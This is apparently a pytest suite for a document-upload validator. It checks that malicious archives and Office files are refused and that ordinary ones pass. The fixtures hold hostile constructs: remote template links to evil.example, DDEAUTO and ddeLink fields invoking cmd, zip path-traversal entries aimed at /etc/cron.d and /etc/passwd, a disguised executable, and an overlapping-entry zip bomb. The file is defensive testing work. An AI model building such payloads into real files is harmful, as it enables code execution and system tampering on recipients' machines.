"""Containers that would hurt whoever opens them are refused, each with its cure; what people really send passes."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from duixian.apps.evidence import containers
from duixian.apps.evidence.containers import check_container, check_ole
from duixian.apps.evidence.errors import DisguisedFile, FileRefused
from duixian.apps.evidence.filetypes import EXTENSIONS, media_type_of

TYPES = '<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="application/vnd.{}.main+xml"/></Types>'
FAR = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"'
    ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def packed(members: Mapping[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return held.getvalue()


def docx(**members: bytes | str) -> bytes:
    return packed({"word/document.xml": "<w/>", **{name.replace("__", "/"): one for name, one in members.items()}})


def said(name: str, content: bytes) -> str:
    with pytest.raises(DisguisedFile) as refused:
        media_type_of(name, content)
    assert refused.value.field == "file"
    return str(refused.value.message)


@pytest.mark.parametrize(
    "members",
    [
        {"a/说明.txt": "好", "a/表.xlsx": packed({"xl/workbook.xml": "<x/>"}), "a/": ""},
        {
            "合同.docx": docx(),
            "票.pdf": b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\n",
            "照片.jpg": b"\xff\xd8\xff\xe0",
        },
        {"票.ofd": packed({"OFD.xml": "<o/>"}), "数.csv": "甲,1\n"},
    ],
)
def test_archives_that_people_send_are_kept(members: dict[str, bytes | str]) -> None:
    assert media_type_of("资料.zip", packed(members)) == "application/zip"


def test_office_files_with_links_pictures_and_plain_macroless_parts_are_kept() -> None:
    links = FAR.format("hyperlink") + FAR.format("image")
    plain = docx(**{"word/_rels/document.xml.rels": links, "[Content_Types].xml": TYPES.format("openxmlformats"),
                    "word/embeddings/chart1.xlsx": packed({"xl/workbook.xml": "x"})})  # fmt: skip
    assert media_type_of("纪要.docx", plain).endswith("wordprocessingml.document")


@pytest.mark.parametrize(
    ("name", "content", "told"),
    [
        ("a.zip", packed({"内.zip": packed({"a": "b"})}), "压缩包里还有压缩包（内.zip）"),
        ("a.zip", packed({"内.dat": packed({"a": "b"})}), "压缩包里还有压缩包（内.dat）"),
        ("a.zip", packed({"内.bin": b"Rar!\x1a\x07\x01\x00rest"}), "压缩包里还有压缩包（内.bin）"),
        ("a.zip", packed({"报告.pdf.exe": "x"}), "可以运行的文件（报告.pdf.exe）"),
        ("a.zip", packed({"照片.jpg": b"MZ\x90\x00"}), "可以运行的程序"),
        ("a.zip", packed({"宏.docx": docx(**{"word/vbaProject.bin": "x"})}), "文件里有宏"),
        ("a.zip", packed({"../../etc/cron.d/x": "x"}), "解到别的文件夹"),
        ("a.zip", packed({"C:\\Windows\\x.txt": "x"}), "解到别的文件夹"),
        ("a.zip", packed({"/etc/passwd": "x"}), "解到别的文件夹"),
        ("a.zip", packed({"a.txt": bytes(2**21)}), "解开后过大"),
        ("a.xlsx", packed({"xl/workbook.xml": b" " * 2**22}), "解开后过大"),
        ("a.docx", docx(**{"[Content_Types].xml": TYPES.format("ms-word.document.macroEnabled")}), "文件里有宏"),
        ("a.xlsx", packed({"xl/workbook.xml": "x", "xl/macrosheets/sheet1.xml": "x"}), "文件里有宏"),
        ("a.docx", docx(**{"word/activeX/activeX1.bin": "x"}), "文件里有宏"),
        ("a.docx", docx(**{"word/_rels/settings.xml.rels": FAR.format("attachedTemplate")}), "从别处取模板"),
        ("a.docx", docx(**{"word/_rels/document.xml.rels": FAR.format("oleObject")}), "从别处取模板"),
        ("a.docx", docx(**{"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), "嵌着别的文件"),
        ("a.docx", packed({"word/document.xml": '<w:instrText>DDEAUTO c:\\\\cmd "/k"</w:instrText>'}), "DDE"),
        ("a.xlsx", packed({"xl/workbook.xml": "x", "xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}), "DDE"),
        ("旧.doc", bytes.fromhex("d0cf11e0a1b11ae1") + "Ole10Native".encode("utf-16-le"), "嵌着别的文件"),
        ("锁.doc", bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le"), "有密码"),
    ],
)  # fmt: skip
def test_what_would_hurt_is_refused_with_its_cure(name: str, content: bytes, told: str) -> None:
    message = said(name, content)
    assert (told in message, "请" in message or "不能作为佐证" in message) == (True, True)


def test_odf_with_basic_is_a_macro() -> None:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr(zipfile.ZipInfo("Basic/Standard/Module1.xml"), "x")
    assert "文件里有宏" in said("a.odt", held.getvalue())


def test_a_locked_archive_cannot_be_looked_into() -> None:
    content = bytearray(packed({"a.txt": "x"}, method=zipfile.ZIP_STORED))
    directory = content.rfind(b"PK\x01\x02")
    content[6], content[directory + 8] = content[6] | 1, content[directory + 8] | 1
    assert "有密码" in said("a.zip", bytes(content))


def test_members_that_share_bytes_are_a_bomb() -> None:
    """Two entries of the directory over one member: each size is small, their sum is more than there is."""
    content = packed({"a.txt": bytes(range(256)) * 4}, method=zipfile.ZIP_STORED)
    at, end = content.rfind(b"PK\x01\x02"), content.rfind(b"PK\x05\x06")
    entry, tail = content[at:end], bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, 9, 9, len(entry) * 9)
    assert "解开后过大" in said("a.zip", content[:at] + entry * 9 + bytes(tail))


def test_more_members_than_anybody_sends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(containers, "MEMBERS", 3)
    assert "解开后过大" in said("a.zip", packed({f"{number}.txt": "x" for number in range(4)}))


def test_a_member_with_a_broken_checksum_is_a_damaged_archive() -> None:
    content = bytearray(packed({"a.txt": "x" * 50}, method=zipfile.ZIP_STORED))
    content[40] ^= 0xFF
    assert "已损坏" in said("a.zip", bytes(content))


@given(
    st.binary(max_size=400),
    st.sampled_from(EXTENSIONS),
    st.sampled_from([b"", b"PK\x03\x04", b"%PDF-1.7\n", packed({"a": "b"})]),
)
def test_random_bytes_are_kept_or_refused_and_nothing_else(noise: bytes, extension: str, head: bytes) -> None:
    try:
        kept = media_type_of(f"a.{extension}", head + noise)
    except FileRefused as refused:
        kept = f"/{refused.field}"
    assert "/" in kept


def test_checks_without_danger_say_nothing() -> None:
    check_ole(bytes(100))
    assert check_container(packed({"a.txt": "x"}), "zip", lambda _name, _content: None) is None
